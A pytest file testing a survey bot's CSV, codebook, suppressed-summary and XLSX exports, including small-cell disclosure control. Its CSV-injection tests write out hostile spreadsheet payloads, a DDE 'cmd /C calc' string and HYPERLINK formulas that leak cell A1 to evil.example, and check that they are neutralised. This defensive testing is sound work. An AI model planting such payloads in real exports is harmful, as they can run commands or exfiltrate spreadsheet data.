"""Export writers: CSV (both dialects), codebook, suppressed summary and XLSX."""

from __future__ import annotations

import csv
import io
import tracemalloc
from dataclasses import FrozenInstanceError, fields
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.exports.codebook import CODEBOOK_COLUMNS, codebook_rows, write_codebook_csv
from bot.exports.csv_writer import write_answers_csv, write_readme
from bot.exports.rows import ANSWER_COLUMNS, AnswerRow, new_answer_row
from bot.exports.safety import neutralise, suppress
from bot.exports.summary import (
    SUMMARY_COLUMNS,
    Counts,
    indicator_summary,
    pinned,
    suppress_cells,
    suppress_counts,
)
from bot.exports.xlsx import DUTCH_HEADERS, MAX_WIDTH, write_xlsx
from bot.survey import catalogue
from bot.survey.catalogue import Catalogue
from bot.survey.models import (
    LANGUAGES,
    Centre,
    Item,
    MainGoal,
    Option,
    Scale,
    ScalePoint,
    SubGoal,
    Survey,
)

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\0"]
DIALECT_DELIMITER = {"rfc4180": ",", "excel-nl": ";"}


def T(text: str) -> dict[str, str]:
    """The same text in every language (test data)."""
    return {lang: text for lang in LANGUAGES}


def small_catalogue() -> Catalogue:
    """Two main goals, three scale items, one text item, one cards item."""
    labels = ["Helemaal niet", "Een beetje", "Redelijk", "Veel", "Heel veel"]
    return Catalogue(
        main_goals={
            "cohesion": MainGoal(id="cohesion", level="wijk", text=T("Sociale cohesie")),
            "trust": MainGoal(id="trust", level="bewoner", text=T("Vertrouwen")),
        },
        sub_goals={"cohesion.meet": SubGoal(id="cohesion.meet", main_goal="cohesion",
                                            text=T("Ontmoeten"))},
        items={
            "msc.change_self": Item(id="msc.change_self", type="text",
                                    prompt=T("Wat is er veranderd?")),
            "cards.meaning": Item(id="cards.meaning", type="cards", prompt=T("Kies kaarten"),
                                  options=[Option(id="friends", label=T("Vrienden")),
                                           Option(id="safe", label=T("Veilig"))]),
            "ind.cohesion.less_lonely": Item(
                id="ind.cohesion.less_lonely", type="scale", main_goal="cohesion",
                sub_goal="cohesion.meet", picture="x.png",
                source_nl="Bewoners voelen zich minder eenzaam",
                prompt=T("Ik voel me minder alleen.")),
            "ind.cohesion.contacts": Item(
                id="ind.cohesion.contacts", type="scale", main_goal="cohesion", picture="x.png",
                source_nl="Bewoners hebben meer betekenisvolle contacten",
                prompt=T("Ik heb meer contacten.")),
            "ind.trust.heard": Item(
                id="ind.trust.heard", type="scale", main_goal="trust", picture="x.png",
                source_nl="Bewoners voelen zich gehoord", prompt=T("Ze luisteren naar mij.")),
        },
        scale=Scale(points=[ScalePoint(value=i + 1, emoji="🙂", label=T(lab))
                            for i, lab in enumerate(labels)],
                    dont_know=T("Weet ik niet"), skip=T("Overslaan")),
        surveys={"short": Survey(name="short", title=T("Kort"), items=["msc.change_self"])},
        centres=[Centre(code="shalom", name="Shalom")],
        effects=[],
    )


def row(**kw) -> AnswerRow:
    base = {"round": 1, "centre": "shalom", "respondent": "R0001", "language": "nl",
            "item_id": "msc.change_self", "item_type": "text", "main_goal": "",
            "sub_goal": "", "status": "answered", "value": "", "value_label_nl": "",
            "text": "", "mode": "self", "answered_on": date(2025, 3, 14)}
    base.update(kw)
    return AnswerRow(**base)


def scale_rows(item_id: str, counts: dict[str, int], *, dont_know: int = 0,
               skipped: int = 0, main_goal: str = "cohesion") -> list[AnswerRow]:
    out, i = [], 0
    for value, c in counts.items():
        for _ in range(c):
            i += 1
            out.append(row(respondent=f"R{i:04d}", item_id=item_id, item_type="scale",
                           main_goal=main_goal, value=value))
    for status, c in (("dont_know", dont_know), ("skipped", skipped)):
        for _ in range(c):
            i += 1
            out.append(row(respondent=f"R{i:04d}", item_id=item_id, item_type="scale",
                           main_goal=main_goal, status=status))
    return out


def read_csv(data: bytes, dialect: str) -> list[list[str]]:
    text = io.TextIOWrapper(io.BytesIO(data), encoding="utf-8-sig", newline="")
    return list(csv.reader(text, delimiter=DIALECT_DELIMITER[dialect]))


def expected_cells(r: AnswerRow) -> list[str]:
    return [neutralise(c) if isinstance(c, str) else str(c) for c in r.as_tuple()]


# --- safety ---------------------------------------------------------------------------


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_neutralise_prefixes_each_trigger(trigger):
    assert neutralise(trigger + "cmd|' /C calc'!A0") == "'" + trigger + "cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", ["", "Goed", "'=al veilig", " =spatie eerst", "3", "a=b"])
def test_neutralise_leaves_safe_text(value):
    assert neutralise(value) == value


def test_suppress_single_count():
    assert [suppress(c, 5) for c in (0, 1, 4, 5, 12)] == [0, "<5", "<5", 5, 12]
    assert suppress(2, k=3) == "<3"
    with pytest.raises(ValueError):
        suppress(-1)


# --- CSV --------------------------------------------------------------------------------

ROWS = [
    row(text="Ik ken nu mijn buren.\nEn ik kom vaker buiten.\r\nEcht waar."),
    row(respondent="R0002", language="tr", text='Çok güzel; "teşekkürler", dank'),
    row(respondent="R0003", language="ar", text="شكراً جزيلاً"),
    row(respondent="R0004", language="uk", text="Дякую"),
    row(respondent="R0005", item_id="ind.cohesion.less_lonely", item_type="scale",
        main_goal="cohesion", sub_goal="cohesion.meet", value="4", value_label_nl="Veel",
        mode="assisted", answered_on=date(2025, 12, 31)),
    row(respondent="R0006", item_id="ind.cohesion.less_lonely", item_type="scale",
        main_goal="cohesion", status="dont_know"),
    *[row(respondent=f"X{i}", text=t + 'HYPERLINK("http://evil.example/?"&A1,"klik")')
      for i, t in enumerate(TRIGGERS)],
    row(respondent="R0099", centre="-centre", value="@x", text="-"),
]


@pytest.mark.parametrize("dialect", ["rfc4180", "excel-nl"])
def test_csv_round_trip(dialect):
    buf = io.BytesIO()
    n = write_answers_csv(iter(ROWS), buf, dialect=dialect)
    assert n == len(ROWS)
    assert not buf.closed  # a caller's file object is left open
    data = buf.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")
    first_line = data[3:].split(b"\r\n", 1)[0].decode()
    assert not first_line.lower().startswith("sep=")
    assert first_line == DIALECT_DELIMITER[dialect].join(ANSWER_COLUMNS)
    parsed = read_csv(data, dialect)
    assert parsed[0] == list(ANSWER_COLUMNS)
    assert parsed[1:] == [expected_cells(r) for r in ROWS]
    # the multi-line answer survives as one cell
    assert parsed[1][ANSWER_COLUMNS.index("text")] == ROWS[0].text
    assert parsed[5][ANSWER_COLUMNS.index("answered_on")] == "2025-12-31"


@pytest.mark.parametrize("dialect", ["rfc4180", "excel-nl"])
def test_csv_neutralises_every_trigger(dialect):
    buf = io.BytesIO()
    write_answers_csv(ROWS, buf, dialect=dialect)
    parsed = read_csv(buf.getvalue(), dialect)
    text_col = ANSWER_COLUMNS.index("text")
    by_respondent = {r[2]: r for r in parsed[1:]}
    for i, trigger in enumerate(TRIGGERS):
        cell = by_respondent[f"X{i}"][text_col]
        assert cell.startswith("'" + trigger), (trigger, cell)
    last = by_respondent["R0099"]
    assert last[1] == "'-centre"
    assert last[ANSWER_COLUMNS.index("value")] == "'@x"
    assert last[text_col] == "'-"
    # no data cell of the whole file starts with a trigger
    for cells in parsed[1:]:
        assert not any(c[:1] in TRIGGERS for c in cells)


def test_csv_line_ends_and_quoting_rfc4180():
    buf = io.BytesIO()
    write_answers_csv(ROWS[:2], buf)
    data = buf.getvalue().decode("utf-8-sig")
    assert data.endswith("\r\n")
    assert '"Çok güzel; ""teşekkürler"", dank"' in data
    assert ",shalom,R0001," in data  # unquoted when not needed


def test_csv_to_path_and_readme(tmp_path: Path):
    out = tmp_path / "answers.csv"
    assert write_answers_csv(ROWS, out, dialect="excel-nl") == len(ROWS)
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    assert write_answers_csv([], tmp_path / "empty.csv") == 0
    assert read_csv((tmp_path / "empty.csv").read_bytes(), "rfc4180") == [list(ANSWER_COLUMNS)]
    note = write_readme(tmp_path / "LEESMIJ.txt", ["vrije tekst verwijderd", "tijdzone"])
    assert note.read_bytes() == b"\xef\xbb\xbfvrije tekst verwijderd\r\ntijdzone\r\n"


def test_csv_rejects_unknown_dialect():
    with pytest.raises(ValueError, match="dialect"):
        write_answers_csv(ROWS, io.BytesIO(), dialect="tsv")  # type: ignore[arg-type]


def test_new_answer_row_is_the_rows_own_constructor_faster():
    values = [getattr(ROWS[1], f.name) for f in fields(AnswerRow)]
    made = new_answer_row(*values)
    assert type(made) is AnswerRow and made == AnswerRow(*values) == ROWS[1]
    assert hash(made) == hash(ROWS[1]) and made.as_tuple() == ROWS[1].as_tuple()
    with pytest.raises(FrozenInstanceError):
        made.value = "5"  # type: ignore[misc]


def test_csv_streams_in_constant_memory(tmp_path: Path):
    story = row(text="Een verhaal over de buurt " * 3)
    # the same answer under a new label each time, made with few allocations (tracemalloc
    # traces every one of them): positional, no keyword dictionary per row
    values = [getattr(story, f.name) for f in fields(AnswerRow)]
    before, after = values[:2], values[3:]           # all but the respondent

    def many(n):
        for i in range(n):
            yield new_answer_row(*before, f"R{i:06d}", *after)

    peaks = []
    for n in (5_000, 50_000):
        tracemalloc.start()
        assert write_answers_csv(many(n), tmp_path / "big.csv") == n
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert peaks[1] < 8_000_000
    assert peaks[1] < peaks[0] * 1.5  # ten times the rows, about the same memory


# --- codebook ---------------------------------------------------------------------------


def test_codebook_shape_small_catalogue():
    cat = small_catalogue()
    rows = codebook_rows(cat)
    assert all(tuple(r) == CODEBOOK_COLUMNS for r in rows)
    lonely = [r for r in rows if r["item_id"] == "ind.cohesion.less_lonely"]
    assert [(r["code"], r["code_label_nl"]) for r in lonely] == [
        ("1", "Helemaal niet"), ("2", "Een beetje"), ("3", "Redelijk"), ("4", "Veel"),
        ("5", "Heel veel")]
    assert lonely[0]["main_goal_nl"] == "Sociale cohesie"
    assert lonely[0]["sub_goal_nl"] == "Ontmoeten"
    assert lonely[0]["source_nl"] == "Bewoners voelen zich minder eenzaam"
    assert lonely[0]["text_nl"] == "Ik voel me minder alleen."
    cards = [r["code"] for r in rows if r["item_id"] == "cards.meaning"]
    assert cards == ["friends", "safe"]
    assert [r["code"] for r in rows if r["item_id"] == "msc.change_self"] == [""]
    status = {r["code"]: r["code_label_nl"] for r in rows if r["item_id"] == "_status"}
    assert status == {"answered": "beantwoord", "skipped": "Overslaan",
                      "dont_know": "Weet ik niet"}
    about = [r["text_nl"] for r in rows if r["item_id"] == "_about"]
    assert any("Europe/Amsterdam" in t and "geen tijden" in t for t in about)


def test_codebook_lists_all_22_indicators_with_main_goal():
    cat = catalogue()
    rows = codebook_rows(cat)
    indicators = {r["item_id"]: r for r in rows if r["item_type"] == "scale"}
    assert len(indicators) == 22 == len(cat.indicators)
    for item in cat.indicators:
        r = indicators[item.id]
        assert r["main_goal"] == item.main_goal
        assert r["main_goal_nl"] == cat.main_goals[item.main_goal].text["nl"]
        assert r["source_nl"] == item.source_nl
        codes = [x["code"] for x in rows if x["item_id"] == item.id]
        assert codes == ["1", "2", "3", "4", "5"]
    assert {r["main_goal"] for r in indicators.values()} == set(cat.main_goals)


@pytest.mark.parametrize("dialect", ["rfc4180", "excel-nl"])
def test_codebook_csv(dialect):
    cat = catalogue()
    buf = io.BytesIO()
    n = write_codebook_csv(cat, buf, dialect=dialect)
    parsed = read_csv(buf.getvalue(), dialect)
    assert parsed[0] == list(CODEBOOK_COLUMNS)
    assert len(parsed) == n + 1 == len(codebook_rows(cat)) + 1


# --- summary ----------------------------------------------------------------------------


def counts(c1=0, c2=0, c3=0, c4=0, c5=0, dont_know=0, skipped=0) -> Counts:
    return Counts(values={"1": c1, "2": c2, "3": c3, "4": c4, "5": c5},
                  dont_know=dont_know, skipped=skipped)


def test_primary_and_secondary_suppression():
    # n = 25; "1" (2) is primary-suppressed; without more, 2 = 25 - 0 - 7 - 10 - 6.
    # The smallest other non-zero cell, "5" (6), is withheld too; the zero stays.
    out = suppress_counts(counts(2, 0, 7, 10, 6, dont_know=3, skipped=0), k=5)
    assert out == {"n": 25, "1": "<5", "2": 0, "3": 7, "4": 10, "5": "x",
                   "median": None, "dont_know": "<5", "skipped": 0}


def test_secondary_tie_takes_lowest_value():
    out = suppress_counts(counts(9, 4, 6, 6, 9), k=5)
    assert (out["2"], out["3"], out["4"]) == ("<5", "x", 6)


def test_two_small_cells_need_no_secondary():
    out = suppress_counts(counts(2, 3, 8, 9, 6), k=5)
    assert [out[v] for v in "12345"] == ["<5", "<5", 8, 9, 6]
    assert out["n"] == 28


def test_two_small_cells_that_must_both_be_one_get_secondary():
    # hidden total 28 - 23 = 2 over two "<5" cells: both must be 1 -> protect further
    out = suppress_counts(counts(1, 1, 8, 9, 6), k=5)
    assert [out[v] for v in "12345"] == ["<5", "<5", 8, 9, "x"]
    # hidden total 8 over two "<5" cells: both must be 4
    out = suppress_counts(counts(4, 4, 8, 9, 6), k=5)
    assert [out[v] for v in "12345"] == ["<5", "<5", 8, 9, "x"]


def test_small_n_suppresses_the_row():
    out = suppress_counts(counts(0, 1, 0, 3, 0, dont_know=6, skipped=1), k=5)
    assert out == {"n": "<5", "1": "x", "2": "x", "3": "x", "4": "x", "5": "x",
                   "median": None, "dont_know": 6, "skipped": "<5"}


def test_zero_answers_and_k_one():
    assert suppress_counts(counts(), k=5) == {
        "n": 0, "1": 0, "2": 0, "3": 0, "4": 0, "5": 0, "median": None,
        "dont_know": 0, "skipped": 0}
    out = suppress_counts(counts(1, 0, 0, 0, 1), k=1)
    assert (out["n"], out["1"], out["5"], out["median"]) == (2, 1, 1, 3)


def test_median_even_and_odd():
    assert counts(c2=1, c3=1).median() == 2.5
    assert counts(c1=3, c5=2).median() == 1
    assert counts(c4=5, c5=5).median() == 4.5


def test_indicator_summary_from_rows():
    cat = small_catalogue()
    rows = (scale_rows("ind.cohesion.less_lonely", {"1": 2, "3": 7, "4": 10, "5": 6},
                       dont_know=3)
            + scale_rows("ind.trust.heard", {"4": 2, "5": 1}, main_goal="trust")
            + [row(text="verhaal"), row(item_id="unknown.item", item_type="scale", value="3")])
    summary = indicator_summary(iter(rows), cat, k=5)
    assert [s["item_id"] for s in summary] == [i.id for i in cat.indicators]
    assert all(tuple(s) == SUMMARY_COLUMNS for s in summary)
    lonely, contacts, heard = summary
    assert lonely == {"item_id": "ind.cohesion.less_lonely", "main_goal": "cohesion", "n": 25,
                      "1": "<5", "2": 0, "3": 7, "4": 10, "5": "x", "dont_know": "<5",
                      "skipped": 0, "median": None}
    assert contacts["n"] == 0 and contacts["median"] is None
    assert heard["n"] == "<5" and heard["median"] is None and heard["4"] == "x"


# --- XLSX -------------------------------------------------------------------------------


def test_xlsx_sheets_header_and_no_formulas(tmp_path: Path):
    cat = small_catalogue()
    planted = '=HYPERLINK("http://evil.example/?"&A1,"klik hier")'
    rows = [
        row(text=planted),
        row(respondent="R0002", text="#N/A"),
        row(respondent="R0003", text="Een\nverhaal\x01 met stuurteken"),
        row(respondent="R0004", text="   "),  # empty story: not on the stories sheet
        row(respondent="R0005", item_id="cards.meaning", item_type="cards", value="friends",
            value_label_nl="Vrienden"),
        *scale_rows("ind.cohesion.less_lonely", {"1": 2, "3": 7, "4": 10, "5": 6}),
    ]
    out = tmp_path / "export.xlsx"
    write_xlsx(iter(rows), cat, out, k=5, notes=["vrije tekst verwijderd na 12 maanden",
                                                 "=1+1"])
    wb = load_workbook(out)
    assert wb.sheetnames == ["antwoorden", "samenvatting", "codeboek", "toelichting"]
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2", ws.title
        assert all(c.font.bold for c in ws[1]), ws.title
        for cells in ws.iter_rows():
            for c in cells:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if c.value is not None and isinstance(c.value, str):
                    assert c.data_type == "s"
        for dim in ws.column_dimensions.values():
            assert dim.width is None or dim.width <= max(MAX_WIDTH, 120)

    answers = wb["antwoorden"]
    header = [c.value for c in answers[1]]
    assert header == [DUTCH_HEADERS.get(c, c) for c in ANSWER_COLUMNS]       # Dutch headers
    assert header[:4] == ["ronde", "centrum", "respondent", "taal"]
    data = list(answers.iter_rows(min_row=2, values_only=True))
    assert len(data) == len(rows)
    text_col = ANSWER_COLUMNS.index("text")
    assert data[0][text_col] == "'" + planted
    assert data[1][text_col] == "#N/A"
    assert data[2][text_col] == "Een\nverhaal met stuurteken"
    scale = data[5]
    assert scale[ANSWER_COLUMNS.index("value")] == 1  # scale value as a number
    assert scale[ANSWER_COLUMNS.index("answered_on")].date() == date(2025, 3, 14)
    assert max(d.width for d in answers.column_dimensions.values()) <= MAX_WIDTH

    summary = {r[0]: r for r in wb["samenvatting"].iter_rows(min_row=2, values_only=True)}
    english = {dutch: name for name, dutch in DUTCH_HEADERS.items()}
    head = [english.get(c.value, c.value) for c in wb["samenvatting"][1]]
    lonely = dict(zip(head, summary["ind.cohesion.less_lonely"], strict=True))
    assert lonely["indicator_nl"] == "Bewoners voelen zich minder eenzaam"
    # withheld counts are empty cells named in the flag column; the 3 points would give them away
    assert (lonely["n"], lonely["1"], lonely["5"], lonely["median"]) == (25, None, None, None)
    assert lonely["withheld"] == "1:<5 5:x"
    assert (lonely["low"], lonely["middle"], lonely["high"], lonely["withheld_3pt"]) == (None, None, None, "low:x middle:x high:x")

    codebook = list(wb["codeboek"].iter_rows(values_only=True))
    assert codebook[0] == CODEBOOK_COLUMNS
    about = [r[0] for r in wb["toelichting"].iter_rows(values_only=True)]
    assert any("Europe/Amsterdam" in t for t in about)
    assert any('"<5"' in t for t in about)
    assert any("groepjes van 5" in t for t in about)
    assert "vrije tekst verwijderd na 12 maanden" in about
    assert "'=1+1" in about


def test_xlsx_to_file_object_with_real_catalogue():
    cat = catalogue()
    item = cat.indicators[0]
    rows = scale_rows(item.id, {"2": 5, "4": 6}, main_goal=item.main_goal or "")
    buf = io.BytesIO()
    write_xlsx(rows, cat, buf)
    wb = load_workbook(io.BytesIO(buf.getvalue()))
    summary = list(wb["samenvatting"].iter_rows(min_row=2, values_only=True))
    assert len(summary) == 22
    codebook_ids = {r[0] for r in wb["codeboek"].iter_rows(min_row=2, values_only=True)}
    assert {i.id for i in cat.indicators} <= codebook_ids


@pytest.mark.parametrize(("cells", "expected"), [
    ({"nl": 9, "en": 2, "tr": 6}, {"nl": 9, "en": "<5", "tr": "x"}),   # one hidden: withhold one more
    ({"nl": 9, "en": 2, "tr": 3}, {"nl": 9, "en": "<5", "tr": "<5"}),  # 5 could be 1+4 or 2+3
    ({"nl": 9, "en": 1, "tr": 1}, {"nl": "x", "en": "<5", "tr": "<5"}),  # 2 must be 1+1
    ({"nl": 9, "en": 0, "tr": 7}, {"nl": 9, "en": 0, "tr": 7}),        # nothing hidden
    # 1 hidden next to a 5: "<5" + "x" = 6 with x >= 5 pins the "<5" to 1, so one more
    ({"1": 1, "2": 5, "3": 10, "4": 10, "5": 10}, {"1": "<5", "2": "x", "3": "x", "4": 10, "5": 10}),
    ({"1": 4, "2": 4, "3": 5, "4": 0, "5": 0}, {"1": "<5", "2": "<5", "3": "x", "4": 0, "5": 0}),
])
def test_suppress_cells_withholds_what_the_total_would_reveal(cells, expected):
    out, total_shown = suppress_cells(cells, 5)
    assert out == expected and total_shown
    # whatever is shown, a reader cannot pin a "<5" cell to one value
    hidden = [v for v, c in out.items() if isinstance(c, str)]
    small = [v for v in hidden if out[v] == "<5"]
    total = sum(cells[v] for v in hidden)
    assert not pinned(total, len(small), len(hidden) - len(small), 5)


def test_pinned_by_brute_force():
    """pinned() agrees with enumerating every value a reader would think possible."""
    import itertools

    k = 5
    for primary, secondary in [(1, 0), (2, 0), (1, 1), (2, 1), (3, 1), (1, 2)]:
        for total in range(primary + secondary * k, 40):
            values = set()
            for combo in itertools.product(range(1, k), repeat=primary):
                rest = total - sum(combo)
                if (secondary == 0 and rest == 0) or (secondary and rest >= secondary * k):
                    values.add(combo[0])
            if values:
                assert pinned(total, primary, secondary, k) == (len(values) == 1), (primary, secondary, total)


def test_a_total_that_cannot_be_protected_is_withheld_too():
    out, total_shown = suppress_cells({"1": 1, "2": 5, "3": 0}, 5)
    assert not total_shown and out == {"1": "x", "2": "x", "3": 0}
    row = suppress_counts(Counts(values={"1": 1, "2": 5, "3": 0, "4": 0, "5": 0}), 5)
    assert row["n"] == "x" and row["median"] is None


def test_median_is_withheld_when_a_value_cell_is():
    assert suppress_counts(Counts(values={"1": 2, "2": 2, "3": 2, "4": 0, "5": 0}), 5)["median"] is None
    assert suppress_counts(Counts(values={"1": 5, "2": 5, "3": 0, "4": 0, "5": 0}), 5)["median"] == 1.5
